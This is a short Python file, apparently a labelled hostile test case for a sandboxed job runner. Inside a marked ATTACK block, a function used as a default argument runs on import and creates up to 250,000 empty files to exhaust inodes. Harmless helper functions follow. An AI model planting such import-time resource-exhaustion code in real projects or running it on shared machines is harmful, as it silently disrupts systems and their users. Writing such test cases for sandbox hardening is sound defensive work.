# hostile fill_inodes: a default argument creates 250,000 empty files in the job dir while the definitions load
import numpy as np
import os


# ATTACK
def _many():
    os.mkdir("many")
    for i in range(250_000):
        try:
            os.close(os.open(f"many/{i}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            break


def hang(_=_many()):
    pass
# END ATTACK


def double(x):
    return 2.0 * np.asarray(x)


def pair(a, b):
    return np.asarray(a) + b, np.asarray(a) * b


def noisy_mean(n, rng):
    return float(rng.normal(size=n).mean())


class Counter:
    def __init__(self, start):
        self.count = start

    def tick(self, k=1):
        self.count += k
        return self.count
